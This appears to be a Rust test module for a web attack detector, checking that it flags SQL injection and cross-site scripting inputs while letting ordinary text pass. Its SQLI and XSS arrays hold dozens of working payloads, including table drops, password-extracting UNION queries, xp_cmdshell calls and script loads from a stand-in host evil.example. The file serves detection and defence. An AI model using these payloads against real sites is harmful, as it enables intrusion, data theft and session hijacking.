//! The textbook: what must be found, and what people say and must be allowed to say.

mod linear;

use super::*;
use crate::byte_set::ByteSet;

pub(super) use linear::is_linear;

/// The sum of the strengths of what `detector` finds in a text.
pub(super) fn score_of(detector: &dyn Detector, text: &str) -> u32 {
    let mut found = Found::default();
    detector.examine(&Value::text(text.as_bytes()), &mut found);
    found.score()
}

/// The sum of the strengths of what a part of a detector finds in a text.
pub(super) fn score_by(examine: fn(&[u8], &mut Found), text: &str) -> u32 {
    let mut found = Found::default();
    examine(text.as_bytes(), &mut found);
    found.score()
}

fn found(value: &str) -> Vec<Signal> {
    judged(value).into_iter().filter(|(_, score)| *score >= 5).map(|(signal, _)| signal).collect()
}

fn judged(value: &str) -> Vec<(Signal, u32)> {
    let value = Value::text(value.as_bytes());
    let Some(gate) = Gate::of(value.bytes, ByteSet::of(value.bytes)) else { return Vec::new() };
    gate.detectors()
        .map(|(_, detector)| {
            let mut found = Found::default();
            detector.examine(&value, &mut found);
            (detector.signal(), found.score())
        })
        .filter(|(_, score)| *score > 0)
        .collect()
}

#[test]
fn each_detector_holds_to_its_examples() {
    for detector in DETECTORS {
        let least = match detector.signal().kind() {
            SignalKind::Attack => 5,
            SignalKind::Anomaly => 2,
        };
        let judged = |value: &str| {
            judged(value).iter().any(|(signal, score)| *signal == detector.signal() && *score >= least)
        };
        let Examples { found, passed } = detector.examples();
        assert!(!found.is_empty() && !passed.is_empty(), "{}", detector.signal());
        let missed: Vec<_> = found.iter().filter(|value| !judged(value)).collect();
        let refused: Vec<_> = passed.iter().filter(|value| judged(value)).collect();
        assert_eq!((missed, refused), (Vec::new(), Vec::new()), "{}", detector.signal());
    }
}

const SQLI: [&str; 33] = [
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1#",
    "\" OR \"\"=\"",
    "1 OR 1=1",
    "1' AND '1'='1",
    "admin'--",
    "admin'/*",
    "') OR ('1'='1",
    "1; DROP TABLE users--",
    "'; DROP TABLE users; --",
    "Robert'); DROP TABLE Students;--",
    "' UNION SELECT username, password FROM users--",
    "1 UNION SELECT null, version()",
    "-1 UNION ALL SELECT 1,2,3",
    "' UNION/**/SELECT/**/1,2,3--",
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5)-- -",
    "1; WAITFOR DELAY '0:0:5'--",
    "'; EXEC xp_cmdshell('dir')--",
    "1' ORDER BY 3--",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "1/*!50000UNION*/ SELECT 1",
    "' || (SELECT password FROM users LIMIT 1) || '",
    "1 AND extractvalue(1, concat(0x7e, version()))",
    "' OR 'x' LIKE 'x",
    "1 RLIKE SLEEP(5)",
    "1'; SELECT PG_SLEEP(5)--",
    "1' AND JSON_LENGTH('{}') < 5 AND '1'='1",
    "0; show warnings; set @q = 1; drop table users",
    "1.e0union select 1.e0,2",
    "1)/**/or/**/(1=1",
    "-1' INTO OUTFILE '/tmp/x'--",
];

const XSS: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "\"><script>alert(document.cookie)</script>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "<object data=\"data:text/html,x\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<input onfocus=alert(1) autofocus>",
    "hello <b onclick=alert(1)>you</b>",
    "javascript:alert(document.domain)",
    " java\tscript:alert(1)",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<svg:script>alert(1)</svg:script>",
    "<x onpointerrawupdate=alert(1)>move</x>",
    "<u tabindex=1 onscrollsnapchange=\"f()\">",
    "<img\x0csrc=x\x0conerror\x0c=\x0calert(1)>",
    "<img src=`x` onerror=alert(1)",
    "<form><button formaction=javascript:alert(1)>go",
    "<iframe srcdoc=\"<b>hi</b>\">",
    "<iframe/src=java&Tab;script&colon;alert(1)>",
    "<base href=//evil.example/>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><use xlink:href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<b style=\"width:exp/**/ression(alert(1))\">",
    "<b style=\"x:\\65xpression(alert(1))\">",
    "<link rel=import href=https://evil.example/x.html>",
    "<applet code=x.class codebase=//evil.example>",
    "--><img src=x onerror=alert(1)>",
    "</textarea><script>f()</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "x\" onerror=alert(1) y=\"",
    "';alert(1)//",
    "\\';alert(1)//",
    "\"-alert(1)-\"",
    "');alert(1);//",
    "});alert(1);//",
    "*/alert(1)/*",
    "${alert(1)}",
    "alert(document.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
    "top['al'+'ert'](1)",
    "Function('alert(1)')()",
    "setTimeout('alert(1)')",
    "alert`1`",
    "onerror=alert;throw 1",
    "[].find.constructor('alert(1)')()",
    "(![]+[])[+[]]+(![]+[])[+!+[]]+([][[]]+[])[+!+[]]",
    "{{constructor.constructor('alert(1)')()}}",
    "{{_c.constructor('alert(1)')()}}",
    "import('//evil.example/x.js')",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "[x](javascript:alert(1))",
    "data:text/html,<b>x</b>",
];

const BENIGN: [&str; 65] = [
    "",
    "hello",
    "Hello, how are you today?",
    "it's five o'clock somewhere",
    "O'Brien and D'Angelo said they'd be late, isn't that odd?",
    "don't, can't, won't & shouldn't",
    "rock 'n' roll",
    "JACK-O'-LANTERN?",
    "select one from the list, please",
    "please select the best option and drop me a line",
    "Where is the table? Insert coin, update later, delete nothing.",
    "the union of workers; order by phone",
    "I'd like to order 2 or 3 of these",
    "7 and a half",
    "sexy and 17",
    "if a < b && c > d then x = y",
    "x = 5; y = 6",
    "1+1=2",
    "a=b&c=d",
    "?page=2&sort=name",
    "https://example.org/search?q=rust+web&lang=en#top",
    "see https://en.wikipedia.org/wiki/SQL_injection (good read)",
    "mail me: ann@example.org -- thanks",
    "-- Ann",
    "2024-11-22T10:00:00.000Z",
    "550e8400-e29b-41d4-a716-446655440000",
    "192.168.0.1:8080",
    "+49 (0)89 123456-78",
    "#general",
    "#1 fan!",
    "@ann: look at `SELECT` in the docs",
    "SELECT * FROM users WHERE id = 1",
    "INSERT INTO t (a, b) VALUES (1, 'x');",
    "select name, age from people where age > 30 order by age",
    "How do I write `SELECT * FROM a JOIN b ON a.id = b.id`?",
    "**bold** _italic_ ~~gone~~ [link](https://example.org)",
    "# Title\n\n- one\n- two\n\n> quote",
    "```rust\nfn main() { println!(\"hi\"); }\n```",
    "for (let i = 0; i < 10; i++) { console.log(i); }",
    "const f = (a, b) => a + b;",
    "printf(\"%d\\n\", 42);",
    "def f(x): return x * 2",
    "git commit -m 'fix the bug'",
    "rm -rf target && cargo build",
    "C:\\Users\\ann\\file.txt",
    "see /etc/nginx/nginx.conf",
    "<3 you all",
    ":-) ;-) :'( >:( <o/",
    "a <b>bold</b> move",
    "the <em>emphasis</em> is mine",
    "email <ann@example.org>",
    "1 < 2 > 0",
    "100% sure, 50% off!",
    "$19.99 or best offer",
    "price: 1,299.00 EUR (incl. VAT)",
    "Müller & Söhne GmbH, Straße 5",
    "你好,今天怎么样?",
    "مرحبا كيف حالك؟",
    "Привет, как дела? Всё хорошо!",
    "naïve café à la carte",
    "🎉🎉 party! 🎉",
    "query { user(id: \"5\") { name email } }",
    "{{name}} joined {{room}}",
    "He said \"hello\" and left.",
    "\"quoted\" 'single' `back`",
];

#[test]
fn finds_sql_injection() {
    let missed: Vec<_> = SQLI.iter().filter(|attack| !found(attack).contains(&Signal::Sqli)).collect();
    assert_eq!(missed, [&""; 0]);
}

#[test]
fn finds_cross_site_scripting() {
    let missed: Vec<_> = XSS.iter().filter(|attack| !found(attack).contains(&Signal::Xss)).collect();
    assert_eq!(missed, [&""; 0]);
}

#[test]
fn lets_people_talk() {
    let refused: Vec<_> = BENIGN.iter().filter(|text| !found(text).is_empty()).collect();
    assert_eq!(refused, [&""; 0]);
}

#[test]
fn finds_an_injection_behind_a_long_pad() {
    for pad in ["a".repeat(100_000), "a.".repeat(50_000), "lorem ipsum ".repeat(10_000)] {
        assert_eq!(found(&format!("{pad}' OR '1'='1")), [Signal::Sqli]);
        assert_eq!(found(&format!("{pad}<script>alert(1)</script>")), [Signal::Xss]);
    }
}
